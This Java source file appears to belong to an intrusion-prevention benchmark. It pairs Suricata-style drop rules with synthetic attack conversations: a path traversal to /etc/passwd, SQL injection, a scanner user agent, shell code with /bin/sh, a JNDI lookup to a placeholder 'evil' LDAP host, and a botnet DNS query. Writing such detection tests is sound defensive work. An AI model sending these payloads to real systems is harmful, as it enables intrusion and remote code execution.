package org.sluice.perf.conversation;

import java.lang.foreign.Arena;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Attacks whose rules are known: each is stopped by the rule with its sid, or it was missed. Cold. */
public final class Attacks {
    /** The rules that stop them, in force at the device. */
    public static final String RULES = """
            drop http any any -> any any (msg:"Bench: path traversal"; flow:established,to_server; \
            http.uri.raw; content:"/../../etc/passwd"; sid:9100001; rev:1;)
            drop http any any -> any any (msg:"Bench: SQL injection"; flow:established,to_server; \
            http.uri; content:"union"; nocase; content:"select"; nocase; distance:1; within:20; sid:9100002; rev:1;)
            drop http any any -> any any (msg:"Bench: scanner's name"; flow:established,to_server; \
            http.user_agent; content:"bench-evil-scanner"; sid:9100003; rev:1;)
            drop tcp any any -> any any (msg:"Bench: shell code"; flow:established,to_server; \
            content:"|90 90 90 90 90 90 90 90|"; content:"/bin/sh"; distance:0; sid:9100004; rev:1;)
            drop http any any -> any any (msg:"Bench: lookup by JNDI"; flow:established,to_server; \
            http.header; content:"${jndi:"; nocase; pcre:"/\\$\\{jndi:(ldap|rmi|dns):/i"; sid:9100005; rev:1;)
            drop dns any any -> any any (msg:"Bench: name of a botnet"; dns.query; \
            content:"botnet.bench.example"; nocase; sid:9100006; rev:1;)
            """;

    private Attacks() {}

    /** One conversation of each. */
    public static List<Script> all(Arena arena) {
        return List.of(
                http(arena, "path traversal", 9_100_001,
                        "GET /view?file=/../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n"),
                http(arena, "SQL injection", 9_100_002, "GET /item?id=1+UNION+SELECT+name HTTP/1.1\r\nHost: a\r\n\r\n"),
                http(arena, "scanner's name", 9_100_003,
                        "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: bench-evil-scanner/1\r\n\r\n"),
                ScriptWriter.tcp(arena, 4_444).attack(latin("\u0090".repeat(32) + "xyz/bin/sh\0")).server(latin("ok"))
                        .end("shell code", 9_100_004),
                http(arena, "lookup by JNDI", 9_100_005,
                        "GET / HTTP/1.1\r\nHost: a\r\nX-Api: ${jndi:ldap://evil/a}\r\n\r\n"),
                botnet(arena));
    }

    private static Script http(Arena arena, String name, int sid, String request) {
        return ScriptWriter.tcp(arena, 80).attack(latin(request))
                .server(latin("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"))
                .end(name, sid);
    }

    private static Script botnet(Arena arena) {
        byte[] question = latin("\6botnet\5bench\7example\0\0\1\0\1");
        byte[] query = ScriptWriter.join(latin("\1\2\1\0\0\1\0\0\0\0\0\0"), question);
        return ScriptWriter.udp(arena, 53).attack(query)
                .server(ScriptWriter.join(latin("\1\2\u0081\u0080\0\1\0\0\0\0\0\0"), question)).end("name of a botnet",
                        9_100_006);
    }

    private static byte[] latin(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
